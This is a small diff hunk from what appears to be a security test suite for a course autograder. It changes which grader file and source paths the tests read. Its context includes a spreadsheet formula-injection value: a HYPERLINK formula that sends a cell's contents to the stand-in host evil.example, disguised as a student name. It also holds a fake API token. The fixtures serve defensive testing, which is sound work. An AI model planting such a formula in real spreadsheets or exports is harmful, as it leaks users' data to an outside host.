@@ -38,10 +38,10 @@ FORMULA_ID = '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&A1,"grace")'
 HONEST = ("honest_ada", "honest_grace", FORMULA_ID)
 MARKER = "backprop-ninja-attack"   # in the command line of every process an attack starts
 TOKEN = "fake-jupyterhub-api-token-3f9a1c"
-GRADER_LINES = [ln.strip() for ln in (course.REPO / "autograde/ninja_autograde/exercises.py").read_text().splitlines()
+GRADER_LINES = [ln.strip() for ln in (course.REPO / "autograde/ninja_autograde/referee.py").read_text().splitlines()
                 if len(ln.strip()) > 40 and not ln.strip().startswith("#")]
 SOURCES = [course.REPO / "nbgrader_config.py", *course.REPO.glob("autograde/ninja_*/*.py"),
-           *course.REPO.glob("backprop_ninja/*.py")]
+           *course.REPO.glob("backprop_ninja/**/*.py")]
 
 
 def tree(folder, skip=("gradebook.db",)):
